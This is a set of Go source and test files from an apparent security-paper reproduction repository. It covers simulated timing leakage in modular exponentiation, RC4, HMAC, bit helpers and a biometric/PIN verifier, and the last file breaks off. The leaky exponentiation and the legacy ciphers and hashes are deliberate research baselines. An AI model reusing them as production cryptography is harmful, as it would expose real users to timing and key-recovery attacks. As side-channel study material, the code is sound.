func TestModExpWindowMatchesBigExp(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	for i := 0; i < 60; i++ {
		n := randOddModulus(rng, 160)
		ctx, _ := NewMontCtx(n)
		base := new(big.Int).Rand(rng, n)
		exp := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), 64))
		var meter CycleMeter
		got := ctx.ModExpWindow(base, exp, &meter)
		want := new(big.Int).Exp(base, exp, n)
		if got.Cmp(want) != 0 {
			t.Fatalf("ModExpWindow mismatch: base %v exp %v mod %v", base, exp, n)
		}
		if meter.Cycles() == 0 {
			t.Fatal("ModExpWindow charged no cycles")
		}
	}
	// Edge exponents around window boundaries.
	n := randOddModulus(rng, 96)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	for _, e := range []int64{1, 2, 15, 16, 17, 255, 256, 65537} {
		exp := big.NewInt(e)
		got := ctx.ModExpWindow(base, exp, nil)
		want := new(big.Int).Exp(base, exp, n)
		if got.Cmp(want) != 0 {
			t.Fatalf("ModExpWindow mismatch at exp %d", e)
		}
	}
}

// TestModExpWindowCheaperThanSquareMultiply pins the point of the window
// method: on a dense exponent it spends measurably fewer simulated cycles
// than leaky square-and-multiply.
func TestModExpWindowCheaperThanSquareMultiply(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	n := randOddModulus(rng, 512)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	// All-ones exponent: worst case for square-and-multiply.
	exp := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 512), big.NewInt(1))
	var plain, window CycleMeter
	ctx.ModExp(base, exp, &plain)
	ctx.ModExpWindow(base, exp, &window)
	if window.Cycles() >= plain.Cycles() {
		t.Fatalf("window method not cheaper: %d >= %d cycles", window.Cycles(), plain.Cycles())
	}
}

func TestModExpZeroExponent(t *testing.T) {
	ctx, _ := NewMontCtx(big.NewInt(101))
	if got := ctx.ModExp(big.NewInt(7), big.NewInt(0), nil); got.Int64() != 1 {
		t.Fatalf("x^0 = %v, want 1", got)
	}
	if got := ctx.ModExpConstTime(big.NewInt(7), big.NewInt(0), nil); got.Int64() != 1 {
		t.Fatalf("const-time x^0 = %v, want 1", got)
	}
	if got := ctx.ModExpWindow(big.NewInt(7), big.NewInt(0), nil); got.Int64() != 1 {
		t.Fatalf("window x^0 = %v, want 1", got)
	}
}

// TestModExpProperty is a testing/quick property against math/big.
func TestModExpProperty(t *testing.T) {
	f := func(baseSeed, expSeed uint64, modSeed uint32) bool {
		n := big.NewInt(int64(modSeed)*2 + 3) // odd, ≥3
		ctx, err := NewMontCtx(n)
		if err != nil {
			return false
		}
		base := new(big.Int).SetUint64(baseSeed)
		exp := new(big.Int).SetUint64(expSeed)
		got := ctx.ModExp(base, exp, nil)
		want := new(big.Int).Exp(new(big.Int).Mod(base, n), exp, n)
		return got.Cmp(want) == 0
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestLeakyTimingIsDataDependent verifies the core side-channel premise:
// different bases yield different simulated cycle counts under the leaky
// exponentiation.
func TestLeakyTimingIsDataDependent(t *testing.T) {
	rng := rand.New(rand.NewSource(5))
	n := randOddModulus(rng, 512)
	ctx, _ := NewMontCtx(n)
	exp := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), 56))
	exp.SetBit(exp, 55, 1)
	seen := map[uint64]int{}
	for i := 0; i < 50; i++ {
		base := new(big.Int).Rand(rng, n)
		var m CycleMeter
		ctx.ModExp(base, exp, &m)
		seen[m.Cycles()]++
	}
	if len(seen) < 2 {
		t.Fatal("leaky ModExp timing shows no data dependence")
	}
}

// TestConstTimeTimingIsUniform verifies the countermeasure: cycle counts
// depend only on the exponent bit length, not on the data or bit pattern.
func TestConstTimeTimingIsUniform(t *testing.T) {
	rng := rand.New(rand.NewSource(6))
	n := randOddModulus(rng, 512)
	ctx, _ := NewMontCtx(n)
	exp1 := new(big.Int).Lsh(big.NewInt(1), 55)                                  // 56-bit, sparse
	exp2 := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 56), big.NewInt(1)) // 56-bit, dense
	var cycles []uint64
	for _, exp := range []*big.Int{exp1, exp2} {
		for i := 0; i < 10; i++ {
			base := new(big.Int).Rand(rng, n)
			var m CycleMeter
			ctx.ModExpConstTime(base, exp, &m)
			cycles = append(cycles, m.Cycles())
		}
	}
	for _, c := range cycles[1:] {
		if c != cycles[0] {
			t.Fatalf("const-time ModExp cycles vary: %v", cycles)
		}
	}
}

// TestLeakyTimingLeaksHammingWeight: heavier exponents take longer on
// average — the exact high-level leak Section 3.4 describes.
func TestLeakyTimingLeaksHammingWeight(t *testing.T) {
	rng := rand.New(rand.NewSource(7))
	n := randOddModulus(rng, 256)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	light := new(big.Int).Lsh(big.NewInt(1), 63)                                  // HW 1
	heavy := new(big.Int).Sub(new(big.Int).Lsh(big.NewInt(1), 64), big.NewInt(1)) // HW 64
	var ml, mh CycleMeter
	ctx.ModExp(base, light, &ml)
	ctx.ModExp(base, heavy, &mh)
	if mh.Cycles() <= ml.Cycles() {
		t.Fatalf("heavy exponent (%d cycles) not slower than light (%d)", mh.Cycles(), ml.Cycles())
	}
}

func TestCycleMeterNilSafety(t *testing.T) {
	var m *CycleMeter
	m.Add(5) // must not panic
	if m.Cycles() != 0 {
		t.Fatal("nil meter should report 0")
	}
	m.Reset()
	var real CycleMeter
	real.Add(7)
	real.Add(3)
	if real.Cycles() != 10 {
		t.Fatalf("meter = %d, want 10", real.Cycles())
	}
	real.Reset()
	if real.Cycles() != 0 {
		t.Fatal("Reset failed")
	}
}

func TestWordsAndCosts(t *testing.T) {
	n := new(big.Int).Lsh(big.NewInt(1), 511)
	n.Add(n, big.NewInt(1)) // 512-bit odd
	ctx, _ := NewMontCtx(n)
	if ctx.Words() != 16 {
		t.Fatalf("512-bit modulus = %d words, want 16", ctx.Words())
	}
	sq, mul, extra := ctx.ExpCycleCosts()
	if sq >= mul {
		t.Fatal("square should be cheaper than multiply")
	}
	if extra == 0 || extra >= sq {
		t.Fatalf("extra reduction cost %d implausible", extra)
	}
	if ctx.CostExtraReduction() != extra {
		t.Fatal("CostExtraReduction disagrees with ExpCycleCosts")
	}
}

func BenchmarkModExp512(b *testing.B) {
	rng := rand.New(rand.NewSource(8))
	n := randOddModulus(rng, 512)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	exp := new(big.Int).Rand(rng, n)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ctx.ModExp(base, exp, nil)
	}
}

func BenchmarkModExpConstTime512(b *testing.B) {
	rng := rand.New(rand.NewSource(9))
	n := randOddModulus(rng, 512)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	exp := new(big.Int).Rand(rng, n)
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ctx.ModExpConstTime(base, exp, nil)
	}
}

// TestTracedVariantsMatchUntraced: the traced exponentiations compute the
// same results and meter the same cycles as their untraced forms.
func TestTracedVariantsMatchUntraced(t *testing.T) {
	rng := rand.New(rand.NewSource(11))
	n := randOddModulus(rng, 192)
	ctx, _ := NewMontCtx(n)
	base := new(big.Int).Rand(rng, n)
	exp := new(big.Int).Rand(rng, new(big.Int).Lsh(big.NewInt(1), 48))
	exp.SetBit(exp, 47, 1)

	var m1, m2 CycleMeter
	want := ctx.ModExp(base, exp, &m1)
	got, trace := ctx.ModExpWithTrace(base, exp, &m2)
	if got.Cmp(want) != 0 {
		t.Fatal("traced result differs")
	}
	if m1.Cycles() != m2.Cycles() {
		t.Fatalf("traced meter %d != untraced %d", m2.Cycles(), m1.Cycles())
	}
	var sum uint64
	for _, d := range trace {
		sum += d
	}
	if sum != m2.Cycles() {
		t.Fatal("trace does not sum to the meter")
	}

	var m3, m4 CycleMeter
	wantCT := ctx.ModExpConstTime(base, exp, &m3)
	gotCT, traceCT := ctx.ModExpConstTimeWithTrace(base, exp, &m4)
	if gotCT.Cmp(wantCT) != 0 || gotCT.Cmp(want) != 0 {
		t.Fatal("const-time traced result differs")
	}
	if m3.Cycles() != m4.Cycles() {
		t.Fatal("const-time traced meter differs")
	}
	if len(traceCT) != exp.BitLen() {
		t.Fatalf("ladder trace has %d samples, want %d", len(traceCT), exp.BitLen())
	}
	for _, d := range traceCT[1:] {
		if d != traceCT[0] {
			t.Fatal("ladder trace not uniform")
		}
	}
}

func TestTracedZeroExponent(t *testing.T) {
	ctx, _ := NewMontCtx(big.NewInt(101))
	r, tr := ctx.ModExpWithTrace(big.NewInt(5), big.NewInt(0), nil)
	if r.Int64() != 1 || tr != nil {
		t.Fatal("traced x^0 mishandled")
	}
	r2, tr2 := ctx.ModExpConstTimeWithTrace(big.NewInt(5), big.NewInt(0), nil)
	if r2.Int64() != 1 || tr2 != nil {
		t.Fatal("const-time traced x^0 mishandled")
	}
}

func TestNewMontCtxEvenAfterValidation(t *testing.T) {
	// Covers the ModInverse-failure branch defensively (even modulus is
	// caught earlier, so construct an odd modulus that is fine and just
	// assert success path fields).
	ctx, err := NewMontCtx(big.NewInt(9))
	if err != nil || ctx.Words() != 1 {
		t.Fatalf("ctx for 9: %v", err)
	}
}
