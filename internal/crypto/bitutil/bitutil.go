// Package bitutil provides the bit- and word-level permutation helpers
// shared by the block ciphers in this repository.
//
// The paper (Section 4.2.1) notes that bit-level permutations such as the
// ones in DES/3DES are the operations word-oriented embedded processors
// struggle with, motivating ISA extensions; this package is the software
// baseline those extensions accelerate.
package bitutil

// PermuteBlock returns the permutation of src described by table.
//
// Positions in table are 1-based from the most-significant bit of an
// srcBits-wide value, following the FIPS 46-3 convention. The result is
// len(table) bits wide, left-aligned at bit len(table)-1.
func PermuteBlock(src uint64, table []uint8, srcBits int) uint64 {
	var dst uint64
	for _, n := range table {
		bit := (src >> (uint(srcBits) - uint(n))) & 1
		dst = dst<<1 | bit
	}
	return dst
}

// RotateLeft28 rotates a 28-bit value left by n bits, keeping the result
// within 28 bits. Used by the DES key schedule.
func RotateLeft28(v uint32, n uint) uint32 {
	const mask = 1<<28 - 1
	v &= mask
	return ((v << n) | (v >> (28 - n))) & mask
}

// Load64 assembles a big-endian uint64 from an 8-byte slice.
func Load64(b []byte) uint64 {
	_ = b[7]
	return uint64(b[0])<<56 | uint64(b[1])<<48 | uint64(b[2])<<40 | uint64(b[3])<<32 |
		uint64(b[4])<<24 | uint64(b[5])<<16 | uint64(b[6])<<8 | uint64(b[7])
}

// Store64 writes v big-endian into an 8-byte slice.
func Store64(b []byte, v uint64) {
	_ = b[7]
	b[0] = byte(v >> 56)
	b[1] = byte(v >> 48)
	b[2] = byte(v >> 40)
	b[3] = byte(v >> 32)
	b[4] = byte(v >> 24)
	b[5] = byte(v >> 16)
	b[6] = byte(v >> 8)
	b[7] = byte(v)
}

// Load32 assembles a big-endian uint32 from a 4-byte slice.
func Load32(b []byte) uint32 {
	_ = b[3]
	return uint32(b[0])<<24 | uint32(b[1])<<16 | uint32(b[2])<<8 | uint32(b[3])
}

// Store32 writes v big-endian into a 4-byte slice.
func Store32(b []byte, v uint32) {
	_ = b[3]
	b[0] = byte(v >> 24)
	b[1] = byte(v >> 16)
	b[2] = byte(v >> 8)
	b[3] = byte(v)
}

// Load32LE assembles a little-endian uint32 from a 4-byte slice (MD5 order).
func Load32LE(b []byte) uint32 {
	_ = b[3]
	return uint32(b[0]) | uint32(b[1])<<8 | uint32(b[2])<<16 | uint32(b[3])<<24
}

// Store32LE writes v little-endian into a 4-byte slice (MD5 order).
func Store32LE(b []byte, v uint32) {
	_ = b[3]
	b[0] = byte(v)
	b[1] = byte(v >> 8)
	b[2] = byte(v >> 16)
	b[3] = byte(v >> 24)
}

// XORBytes sets dst[i] = a[i] ^ b[i] for i < n where n is the shortest
// length among the three slices, and returns n.
func XORBytes(dst, a, b []byte) int {
	n := len(a)
	if len(b) < n {
		n = len(b)
	}
	if len(dst) < n {
		n = len(dst)
	}
	for i := 0; i < n; i++ {
		dst[i] = a[i] ^ b[i]
	}
	return n
}

// HammingWeight8 returns the number of set bits in b. It is the leakage
// function used by the simulated power model in internal/attack/dpa.
func HammingWeight8(b uint8) int {
	n := 0
	for b != 0 {
		n += int(b & 1)
		b >>= 1
	}
	return n
}
