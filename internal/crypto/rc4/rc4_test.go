package rc4

import (
	"bytes"
	stdrc4 "crypto/rc4"
	"encoding/hex"
	"math/rand"
	"testing"
	"testing/quick"
)

// Published RC4 keystream vectors (from the original posting / RFC 6229
// style short checks).
var keystreamVectors = []struct {
	key  string
	want string
}{
	{"0102030405", "b2396305f03dc027"},
	{"01020304050607", "293f02d47f37c9b6"},
	{"0102030405060708", "97ab8a1bf0afb961"},
	{"0102030405060708090a0b0c0d0e0f10", "9ac7cc9a609d1ef7"},
}

func TestKeystreamVectors(t *testing.T) {
	for _, v := range keystreamVectors {
		key, _ := hex.DecodeString(v.key)
		c, err := NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		out := make([]byte, 8)
		c.Keystream(out)
		if hex.EncodeToString(out) != v.want {
			t.Errorf("key %s: keystream = %x, want %s", v.key, out, v.want)
		}
	}
}

func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 100; i++ {
		key := make([]byte, 1+rng.Intn(32))
		msg := make([]byte, rng.Intn(500))
		rng.Read(key)
		rng.Read(msg)
		ours, err := NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		ref, err := stdrc4.NewCipher(key)
		if err != nil {
			t.Fatal(err)
		}
		got := make([]byte, len(msg))
		want := make([]byte, len(msg))
		ours.XORKeyStream(got, msg)
		ref.XORKeyStream(want, msg)
		if !bytes.Equal(got, want) {
			t.Fatalf("key %x: mismatch with stdlib", key)
		}
	}
}

// TestStreamSymmetry: encrypting twice with fresh ciphers restores the
// plaintext (stream ciphers are their own inverse).
func TestStreamSymmetry(t *testing.T) {
	f := func(key [16]byte, msg []byte) bool {
		c1, _ := NewCipher(key[:])
		c2, _ := NewCipher(key[:])
		ct := make([]byte, len(msg))
		pt := make([]byte, len(msg))
		c1.XORKeyStream(ct, msg)
		c2.XORKeyStream(pt, ct)
		return bytes.Equal(pt, msg)
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestSplitStream verifies keystream continuity across calls.
func TestSplitStream(t *testing.T) {
	key := []byte("wepkey40")
	c1, _ := NewCipher(key)
	c2, _ := NewCipher(key)
	msg := make([]byte, 100)
	one := make([]byte, 100)
	c1.XORKeyStream(one, msg)
	two := make([]byte, 0, 100)
	buf := make([]byte, 7)
	for off := 0; off < 100; {
		n := 7
		if off+n > 100 {
			n = 100 - off
		}
		c2.XORKeyStream(buf[:n], msg[off:off+n])
		two = append(two, buf[:n]...)
		off += n
	}
	if !bytes.Equal(one, two) {
		t.Fatal("split keystream differs from contiguous keystream")
	}
}

func TestKeySizeErrors(t *testing.T) {
	if _, err := NewCipher(nil); err == nil {
		t.Error("accepted empty key")
	}
	if _, err := NewCipher(make([]byte, 257)); err == nil {
		t.Error("accepted 257-byte key")
	}
	if KeySizeError(0).Error() == "" {
		t.Error("empty error message")
	}
}

func TestStateAccess(t *testing.T) {
	c, _ := NewCipher([]byte{1, 2, 3, 4, 5})
	s, i, j := c.State()
	if i != 0 || j != 0 {
		t.Fatalf("fresh cipher i,j = %d,%d; want 0,0", i, j)
	}
	// State must be a permutation of 0..255.
	var seen [256]bool
	for _, v := range s {
		if seen[v] {
			t.Fatal("state is not a permutation")
		}
		seen[v] = true
	}
}

func BenchmarkXORKeyStream1K(b *testing.B) {
	c, _ := NewCipher(make([]byte, 16))
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for i := 0; i < b.N; i++ {
		c.XORKeyStream(buf, buf)
	}
}
