// Package rc4 implements the RC4 stream cipher from scratch.
//
// RC4 is both a negotiable SSL/WTLS bulk cipher (Section 3.1) and the
// cipher underlying 802.11 WEP, whose key-schedule weakness enables the
// FMS attack reproduced in internal/attack/wepattack (Section 2, refs
// [21-23]).
package rc4

import "fmt"

// KeySizeError reports an invalid key length.
type KeySizeError int

func (k KeySizeError) Error() string {
	return fmt.Sprintf("rc4: invalid key size %d", int(k))
}

// Cipher is an RC4 stream cipher instance.
type Cipher struct {
	s    [256]byte
	i, j uint8
}

// NewCipher creates an RC4 cipher from a 1- to 256-byte key, running the
// full key-scheduling algorithm (KSA).
func NewCipher(key []byte) (*Cipher, error) {
	k := len(key)
	if k < 1 || k > 256 {
		return nil, KeySizeError(k)
	}
	c := new(Cipher)
	for i := range c.s {
		c.s[i] = byte(i)
	}
	var j uint8
	for i := 0; i < 256; i++ {
		j += c.s[i] + key[i%k]
		c.s[i], c.s[j] = c.s[j], c.s[i]
	}
	return c, nil
}

// XORKeyStream XORs src with the cipher's keystream into dst. dst and src
// may overlap entirely or not at all. The i/j indices and permutation are
// worked on as locals so the PRGA inner loop stays free of pointer
// round-trips and bounds checks (uint8 indices cannot exceed the table).
func (c *Cipher) XORKeyStream(dst, src []byte) {
	i, j := c.i, c.j
	s := &c.s
	for k, v := range src {
		i++
		j += s[i]
		s[i], s[j] = s[j], s[i]
		dst[k] = v ^ s[s[i]+s[j]]
	}
	c.i, c.j = i, j
}

// Keystream writes len(out) keystream bytes into out (the encryption of
// zeros) without the zero-fill-then-XOR double pass. It is a convenience
// for the WEP attacks, which reason about raw keystream.
func (c *Cipher) Keystream(out []byte) {
	i, j := c.i, c.j
	s := &c.s
	for k := range out {
		i++
		j += s[i]
		s[i], s[j] = s[j], s[i]
		out[k] = s[s[i]+s[j]]
	}
	c.i, c.j = i, j
}

// State returns a copy of the current permutation state and the i/j
// indices. The FMS attack in internal/attack/wepattack simulates partial
// KSA runs; exposing the state keeps that simulation honest (it uses only
// information an attacker can compute from the public IV).
func (c *Cipher) State() (s [256]byte, i, j uint8) {
	return c.s, c.i, c.j
}
