// Package hmac implements HMAC (RFC 2104) from scratch over any hash in
// this repository.
//
// HMAC-SHA-1 and HMAC-MD5 are the message-authentication algorithms the
// paper's protocols negotiate alongside their bulk ciphers (Section 3.1).
package hmac

import "hash"

// New returns an HMAC instance keyed with key over the hash produced by h.
// The returned value satisfies hash.Hash.
func New(h func() hash.Hash, key []byte) hash.Hash {
	hm := &hmac{inner: h(), outer: h()}
	bs := hm.inner.BlockSize()
	hm.ipad = make([]byte, bs)
	hm.opad = make([]byte, bs)
	if len(key) > bs {
		hm.outer.Write(key)
		key = hm.outer.Sum(nil)
		hm.outer.Reset()
	}
	copy(hm.ipad, key)
	copy(hm.opad, key)
	for i := range hm.ipad {
		hm.ipad[i] ^= 0x36
		hm.opad[i] ^= 0x5c
	}
	hm.inner.Write(hm.ipad)
	return hm
}

type hmac struct {
	inner, outer hash.Hash
	ipad, opad   []byte
}

func (h *hmac) Write(p []byte) (int, error) { return h.inner.Write(p) }

func (h *hmac) Size() int { return h.inner.Size() }

func (h *hmac) BlockSize() int { return h.inner.BlockSize() }

func (h *hmac) Reset() {
	h.inner.Reset()
	h.inner.Write(h.ipad)
}

func (h *hmac) Sum(in []byte) []byte {
	mark := len(in)
	in = h.inner.Sum(in)
	h.outer.Reset()
	h.outer.Write(h.opad)
	h.outer.Write(in[mark:])
	return h.outer.Sum(in[:mark])
}

// Equal compares two MACs in constant time, preventing the byte-at-a-time
// timing oracle the paper's tamper-resistance section warns about.
func Equal(a, b []byte) bool {
	if len(a) != len(b) {
		return false
	}
	var v byte
	for i := range a {
		v |= a[i] ^ b[i]
	}
	return v == 0
}
