package hmac

import (
	"bytes"
	stdhmac "crypto/hmac"
	stdmd5 "crypto/md5"
	stdsha1 "crypto/sha1"
	"encoding/hex"
	"hash"
	"math/rand"
	"testing"
	"testing/quick"

	"repro/internal/crypto/md5"
	"repro/internal/crypto/sha1"
)

func ourSHA1() hash.Hash { return sha1.New() }
func ourMD5() hash.Hash  { return md5.New() }

// RFC 2202 test cases (a selection covering short, long and block-size
// boundary keys).
func TestRFC2202SHA1(t *testing.T) {
	cases := []struct {
		key, data []byte
		want      string
	}{
		{bytes.Repeat([]byte{0x0b}, 20), []byte("Hi There"),
			"b617318655057264e28bc0b6fb378c8ef146be00"},
		{[]byte("Jefe"), []byte("what do ya want for nothing?"),
			"effcdf6ae5eb2fa2d27416d5f184df9c259a7c79"},
		{bytes.Repeat([]byte{0xaa}, 80), []byte("Test Using Larger Than Block-Size Key - Hash Key First"),
			"aa4ae5e15272d00e95705637ce8a3b55ed402112"},
	}
	for i, c := range cases {
		h := New(ourSHA1, c.key)
		h.Write(c.data)
		if got := hex.EncodeToString(h.Sum(nil)); got != c.want {
			t.Errorf("case %d: got %s, want %s", i, got, c.want)
		}
	}
}

func TestRFC2202MD5(t *testing.T) {
	cases := []struct {
		key, data []byte
		want      string
	}{
		{bytes.Repeat([]byte{0x0b}, 16), []byte("Hi There"),
			"9294727a3638bb1c13f48ef8158bfc9d"},
		{[]byte("Jefe"), []byte("what do ya want for nothing?"),
			"750c783e6ab0b503eaa86e310a5db738"},
	}
	for i, c := range cases {
		h := New(ourMD5, c.key)
		h.Write(c.data)
		if got := hex.EncodeToString(h.Sum(nil)); got != c.want {
			t.Errorf("case %d: got %s, want %s", i, got, c.want)
		}
	}
}

func TestAgainstStdlib(t *testing.T) {
	rng := rand.New(rand.NewSource(1))
	for i := 0; i < 100; i++ {
		key := make([]byte, rng.Intn(100))
		msg := make([]byte, rng.Intn(300))
		rng.Read(key)
		rng.Read(msg)

		ours := New(ourSHA1, key)
		ref := stdhmac.New(stdsha1.New, key)
		ours.Write(msg)
		ref.Write(msg)
		if !bytes.Equal(ours.Sum(nil), ref.Sum(nil)) {
			t.Fatalf("sha1 key %x: mismatch with stdlib", key)
		}

		oursM := New(ourMD5, key)
		refM := stdhmac.New(stdmd5.New, key)
		oursM.Write(msg)
		refM.Write(msg)
		if !bytes.Equal(oursM.Sum(nil), refM.Sum(nil)) {
			t.Fatalf("md5 key %x: mismatch with stdlib", key)
		}
	}
}

// TestKeySeparation: different keys yield different MACs (property test).
func TestKeySeparation(t *testing.T) {
	f := func(k1, k2 [8]byte, msg []byte) bool {
		if k1 == k2 {
			return true
		}
		h1 := New(ourSHA1, k1[:])
		h2 := New(ourSHA1, k2[:])
		h1.Write(msg)
		h2.Write(msg)
		return !bytes.Equal(h1.Sum(nil), h2.Sum(nil))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

// TestMessageSeparation: different messages yield different MACs.
func TestMessageSeparation(t *testing.T) {
	f := func(key [16]byte, m1, m2 []byte) bool {
		if bytes.Equal(m1, m2) {
			return true
		}
		h1 := New(ourSHA1, key[:])
		h2 := New(ourSHA1, key[:])
		h1.Write(m1)
		h2.Write(m2)
		return !bytes.Equal(h1.Sum(nil), h2.Sum(nil))
	}
	if err := quick.Check(f, nil); err != nil {
		t.Fatal(err)
	}
}

func TestReset(t *testing.T) {
	h := New(ourSHA1, []byte("key"))
	h.Write([]byte("junk"))
	h.Reset()
	h.Write([]byte("msg"))
	a := h.Sum(nil)
	h2 := New(ourSHA1, []byte("key"))
	h2.Write([]byte("msg"))
	if !bytes.Equal(a, h2.Sum(nil)) {
		t.Fatal("Reset did not restore keyed state")
	}
}

func TestEqual(t *testing.T) {
	if !Equal([]byte{1, 2, 3}, []byte{1, 2, 3}) {
		t.Error("Equal rejected identical MACs")
	}
	if Equal([]byte{1, 2, 3}, []byte{1, 2, 4}) {
		t.Error("Equal accepted different MACs")
	}
	if Equal([]byte{1, 2}, []byte{1, 2, 3}) {
		t.Error("Equal accepted different lengths")
	}
}

func BenchmarkHMACSHA1_1K(b *testing.B) {
	h := New(ourSHA1, make([]byte, 20))
	buf := make([]byte, 1024)
	b.SetBytes(1024)
	for i := 0; i < b.N; i++ {
		h.Reset()
		h.Write(buf)
		h.Sum(nil)
	}
}
