// Package biometric models the end-user identification block of the
// paper's platform: "Biometric technologies such as finger print
// recognition and voice recognition are emerging as important elements in
// enabling a secure wireless environment with minimal actions or
// understanding required from end-users" (Section 4.1), realizing the
// "user identification" sector of Figure 1.
//
// A subject's biometric is a fixed feature vector; each scan observes it
// through sensor noise. Enrollment averages scans into a template;
// verification thresholds the distance between a fresh scan and the
// template. The threshold trades the false-accept rate (FAR) against the
// false-reject rate (FRR) — the quantitative knob a system designer sets.
// A PIN fallback with a retry counter and lockout completes the block.
package biometric

import (
	"errors"
	"fmt"
	"hash"
	"math"

	"repro/internal/crypto/hmac"
	"repro/internal/crypto/prng"
	"repro/internal/crypto/sha1"
)

// FeatureDim is the feature-vector dimensionality of the simulated
// sensor.
const FeatureDim = 16

// Subject is a person with a ground-truth biometric.
type Subject struct {
	features []float64
}

// NewSubject draws a random ground-truth feature vector.
func NewSubject(rng *prng.DRBG) *Subject {
	f := make([]float64, FeatureDim)
	for i := range f {
		f[i] = rng.Float64()*2 - 1
	}
	return &Subject{features: f}
}

// Scan simulates one sensor reading: the true features plus Gaussian
// noise of the given standard deviation.
func (s *Subject) Scan(rng *prng.DRBG, noiseStd float64) []float64 {
	out := make([]float64, len(s.features))
	for i, v := range s.features {
		out[i] = v + rng.NormFloat64()*noiseStd
	}
	return out
}

// Template is an enrolled biometric reference.
type Template struct {
	mean []float64
}

// Enroll averages several scans into a template.
func Enroll(scans [][]float64) (*Template, error) {
	if len(scans) == 0 {
		return nil, errors.New("biometric: enrollment needs at least one scan")
	}
	dim := len(scans[0])
	mean := make([]float64, dim)
	for _, s := range scans {
		if len(s) != dim {
			return nil, errors.New("biometric: inconsistent scan dimensions")
		}
		for i, v := range s {
			mean[i] += v
		}
	}
	for i := range mean {
		mean[i] /= float64(len(scans))
	}
	return &Template{mean: mean}, nil
}

// Distance is the RMS distance between a scan and the template.
func (t *Template) Distance(scan []float64) (float64, error) {
	if len(scan) != len(t.mean) {
		return 0, errors.New("biometric: scan dimension mismatch")
	}
	sum := 0.0
	for i, v := range scan {
		d := v - t.mean[i]
		sum += d * d
	}
	return math.Sqrt(sum / float64(len(scan))), nil
}

// Matcher verifies scans against a template under a distance threshold.
type Matcher struct {
	Template  *Template
	Threshold float64
}

// Match returns the distance and whether it passes.
func (m *Matcher) Match(scan []float64) (float64, bool, error) {
	d, err := m.Template.Distance(scan)
	if err != nil {
		return 0, false, err
	}
	return d, d <= m.Threshold, nil
}

// Rates estimates FAR and FRR for a threshold over simulated trials: the
// genuine subject and impostors each present `trials` scans.
func Rates(rng *prng.DRBG, threshold, noiseStd float64, trials int) (far, frr float64, err error) {
	if trials <= 0 {
		return 0, 0, errors.New("biometric: trials must be positive")
	}
	genuine := NewSubject(rng)
	var enrollScans [][]float64
	for i := 0; i < 4; i++ {
		enrollScans = append(enrollScans, genuine.Scan(rng, noiseStd))
	}
	tpl, err := Enroll(enrollScans)
	if err != nil {
		return 0, 0, err
	}
	m := &Matcher{Template: tpl, Threshold: threshold}
	rejects, accepts := 0, 0
	for i := 0; i < trials; i++ {
		if _, ok, _ := m.Match(genuine.Scan(rng, noiseStd)); !ok {
			rejects++
		}
		impostor := NewSubject(rng)
		if _, ok, _ := m.Match(impostor.Scan(rng, noiseStd)); ok {
			accepts++
		}
	}
	return float64(accepts) / float64(trials), float64(rejects) / float64(trials), nil
}

// Verifier is the complete user-identification block: biometric first,
// PIN fallback, retry counter with lockout.
type Verifier struct {
	matcher   *Matcher
	pinMAC    []byte
	macKey    []byte
	retries   int
	maxRetry  int
	lockedOut bool
}

// Verifier errors.
var (
	ErrLockedOut = errors.New("biometric: device locked out")
	ErrBadPIN    = errors.New("biometric: wrong PIN")
)

// NewVerifier builds the block from an enrolled matcher, a PIN (stored as
// a keyed MAC, never in clear) and a retry budget.
func NewVerifier(m *Matcher, macKey []byte, pin string, maxRetries int) (*Verifier, error) {
	if m == nil || m.Template == nil {
		return nil, errors.New("biometric: verifier needs an enrolled matcher")
	}
	if len(macKey) < 16 {
		return nil, fmt.Errorf("biometric: MAC key must be ≥16 bytes, got %d", len(macKey))
	}
	if maxRetries <= 0 {
		maxRetries = 3
	}
	v := &Verifier{matcher: m, macKey: append([]byte{}, macKey...), maxRetry: maxRetries}
	v.pinMAC = v.mac(pin)
	return v, nil
}

func (v *Verifier) mac(pin string) []byte {
	h := hmac.New(func() hash.Hash { return sha1.New() }, v.macKey)
	h.Write([]byte("pin:"))
	h.Write([]byte(pin))
	return h.Sum(nil)
}

// VerifyScan attempts biometric unlock. Failures count against the retry
// budget; success resets it.
func (v *Verifier) VerifyScan(scan []float64) (bool, error) {
	if v.lockedOut {
		return false, ErrLockedOut
	}
	_, ok, err := v.matcher.Match(scan)
	if err != nil {
		return false, err
	}
	v.note(ok)
	return ok, nil
}

// VerifyPIN attempts PIN unlock.
func (v *Verifier) VerifyPIN(pin string) (bool, error) {
	if v.lockedOut {
		return false, ErrLockedOut
	}
	ok := hmac.Equal(v.mac(pin), v.pinMAC)
	v.note(ok)
	if !ok {
		return false, ErrBadPIN
	}
	return true, nil
}

func (v *Verifier) note(ok bool) {
	if ok {
		v.retries = 0
		return
	}
	v.retries++
	if v.retries >= v.maxRetry {
		v.lockedOut = true
	}
}

// LockedOut reports whether the retry budget is exhausted.
func (v *Verifier) LockedOut() bool { return v.lockedOut }

// AdminReset clears a lockout (e.g. after operator intervention).
func (v *Verifier) AdminReset() {
	v.lockedOut = false
	v.retries = 0
}
