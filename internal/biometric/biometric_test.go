package biometric

import (
	"bytes"
	"testing"

	"repro/internal/crypto/prng"
)

func enrolledMatcher(t *testing.T, rng *prng.DRBG, subject *Subject, threshold float64) *Matcher {
	t.Helper()
	var scans [][]float64
	for i := 0; i < 4; i++ {
		scans = append(scans, subject.Scan(rng, 0.1))
	}
